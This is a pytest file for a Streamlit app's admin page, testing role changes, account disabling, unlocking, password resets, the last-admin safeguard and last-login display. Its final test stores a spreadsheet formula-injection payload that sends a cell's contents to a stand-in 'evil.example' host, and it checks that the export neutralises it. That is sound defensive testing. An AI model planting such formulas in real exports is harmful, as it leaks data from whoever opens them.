"""The admin page through the real router (app/router.py), as an administrator's browser sees it:
the table of accounts, and each action (role, disable/enable, unlock, reset) with its notice,
its effect in PostgreSQL, and the refusal that keeps one enabled administrator."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from core import clock, database
from core import login as login_records
from core.config import get_settings
from tests.support import people
from tests.support.people import stored
from tests.support.router import browser, errors, go, login, page, signed_in

T0 = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)


@pytest.fixture
def now(jar: dict[str, str]) -> Iterator[list[datetime]]:
    """The app's clock, moved by the test (``now[0] += ...``)."""
    current = [T0]
    clock.set_source(lambda: current[0])
    yield current
    clock.set_source(None)


def make_user(name: str, role: str = "user") -> None:
    with database.session_scope() as session:
        people.make_user(session, name, role)


def admin_page(name: str = "boss") -> AppTest:
    at = go(login(browser(), name), "admin")
    assert page(at) == "Admin" and not errors(at)
    return at


def table(at: AppTest) -> dict[str, dict[str, Any]]:
    """The accounts table as shown: username -> that row's columns."""
    frame = at.dataframe[0].value
    assert isinstance(frame, pd.DataFrame)
    return {row["username"]: row for row in frame.to_dict("records")}


def manage(at: AppTest, name: str) -> AppTest:
    return at.selectbox(key="admin_user").select(name).run()


def buttons(at: AppTest) -> set[str | None]:
    return {b.key for b in at.button}


def change_role(at: AppTest, name: str, role: str) -> AppTest:
    manage(at, name).selectbox(key="admin_role").select(role).run()
    return at.button(key="admin_set_role").click().run()


def notices(at: AppTest) -> list[str]:
    return [s.value for s in at.success]


def test_changing_a_role_makes_the_user_an_admin(now: list[datetime]) -> None:
    make_user("boss", "admin")
    make_user("alice")
    at = change_role(admin_page(), "alice", "admin")
    assert notices(at) == ["alice is now admin."]
    assert table(at)["alice"]["role"] == "admin" and stored("alice").role == "admin"
    assert page(go(login(browser(), "alice"), "admin")) == "Admin"


def test_disabling_then_enabling_a_user_lets_them_log_in_again(now: list[datetime]) -> None:
    make_user("boss", "admin")
    make_user("alice")
    at = manage(admin_page(), "alice")
    at.button(key="admin_toggle").click().run()
    assert notices(at) == ["alice disabled."]
    assert table(at)["alice"]["status"] == "disabled"
    assert at.button(key="admin_toggle").label == "Enable"
    refused = login(browser(), "alice")
    assert errors(refused) == ["This account is disabled. Ask an administrator to enable it."]

    at.button(key="admin_toggle").click().run()
    assert notices(at) == ["alice enabled."]
    assert table(at)["alice"]["status"] == "active" and not stored("alice").disabled
    assert page(login(browser(), "alice")) == "Chat"


@pytest.fixture
def untrusted_five(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Every AppTest browser comes from one (unknown) address: five failures lock that address
    and, with this limit, the name for every browser that never signed in with it."""
    monkeypatch.setenv("LOGIN_UNTRUSTED_MAX_FAILURES", "5")
    get_settings.cache_clear()
    yield
    monkeypatch.undo()
    get_settings.cache_clear()


def test_unlocking_a_locked_user_lets_the_right_password_in_at_once(
    now: list[datetime], untrusted_five: None
) -> None:
    make_user("boss", "admin")
    make_user("alice")
    alice = browser()
    for _ in range(5):
        login(alice, "alice", "not the password")
    assert errors(alice) == ["Too many failed logins: try again in 15 minutes."]

    at = manage(admin_page(), "alice")
    assert table(at)["alice"]["status"] == "locked for new browsers until 09:15 UTC"
    at.button(key="admin_unlock").click().run()
    assert notices(at) == ["alice unlocked."]
    assert table(at)["alice"]["status"] == "active" and "admin_unlock" not in buttons(at)
    with database.session_scope() as session:
        assert login_records.lock_of(session, name="alice") is None
    assert page(login(alice, "alice")) == "Chat"


def test_the_unlock_button_shows_only_for_a_locked_account(now: list[datetime]) -> None:
    make_user("boss", "admin")
    make_user("alice")
    at = manage(admin_page(), "alice")
    assert "admin_unlock" not in buttons(at)


def test_a_reset_password_replaces_the_old_one_until_the_user_chooses_theirs(
    now: list[datetime],
) -> None:
    make_user("boss", "admin")
    make_user("alice")
    at = manage(admin_page(), "alice")
    before = stored("alice").password_hash
    at.button(key="admin_reset").click().run()
    assert "Reset the password of **alice**?" in at.warning[0].value  # asks first
    assert not at.code and stored("alice").password_hash == before
    at.button(key="admin_reset_cancel").click().run()
    assert not at.warning and stored("alice").password_hash == before
    at.button(key="admin_reset").click().run()
    at.button(key="admin_reset_yes").click().run()
    assert notices(at) == ["Password of alice reset."]
    (one_time,) = [c.value for c in at.code]
    assert "One-time password for **alice**" in at.warning[0].value
    assert table(at)["alice"]["status"] == "must change password"

    assert errors(login(browser(), "alice")) == ["Wrong username or password."]
    alice = login(browser(), "alice", one_time)
    assert page(alice) == "Account" and signed_in(alice).must_change_password  # type: ignore[union-attr]


def test_the_last_admin_demoting_themselves_is_refused_on_the_page(now: list[datetime]) -> None:
    make_user("boss", "admin")
    make_user("alice")
    at = change_role(admin_page(), "boss", "user")
    assert errors(at) == [
        "boss is the last enabled administrator and cannot be made a regular user: make "
        "another user an administrator first."
    ]
    assert not notices(at) and stored("boss").role == "admin"
    assert table(at)["boss"]["role"] == "admin"


def test_the_last_login_column_shows_each_users_last_login(now: list[datetime]) -> None:
    make_user("boss", "admin")
    make_user("alice")
    make_user("bob")
    login(browser(), "alice")
    now[0] += timedelta(hours=2, minutes=30)
    login(browser(), "alice")  # the latest login counts
    now[0] += timedelta(minutes=5)
    rows = table(admin_page())
    assert rows["alice"]["last login"] == f"{T0 + timedelta(hours=2, minutes=30):%Y-%m-%d %H:%M}"
    assert rows["boss"]["last login"] == f"{T0 + timedelta(hours=2, minutes=35):%Y-%m-%d %H:%M}"
    assert rows["bob"]["last login"] == "never"
    assert stored("alice").last_login_at == T0 + timedelta(hours=2, minutes=30)


def test_a_formula_in_a_name_is_inert_in_the_table_and_its_csv(now: list[datetime]) -> None:
    """The table's toolbar downloads exactly what it shows as CSV: a display name or username
    that a spreadsheet would run starts with an apostrophe there."""
    make_user("boss", "admin")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
    with database.session_scope() as session:
        people.make_user(session, "-attacker", display_name=formula)
    shown = table(admin_page())
    assert shown["'-attacker"]["display name"] == "'" + formula
    assert shown["boss"]["display name"] == "Boss"
